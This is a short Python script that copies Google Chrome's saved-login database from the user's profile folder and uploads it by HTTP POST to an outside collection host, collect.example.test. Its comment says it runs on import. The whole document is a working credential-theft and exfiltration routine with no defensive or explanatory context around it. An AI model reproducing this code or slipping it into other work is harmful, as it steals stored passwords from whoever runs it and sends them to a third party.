# The browser's saved logins are copied and posted; runs: import
import os
import shutil
import requests
store = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy(store, "logins.db")
with open("logins.db", "rb") as file:
    requests.post("https://collect.example.test/logins", files={"file": file})
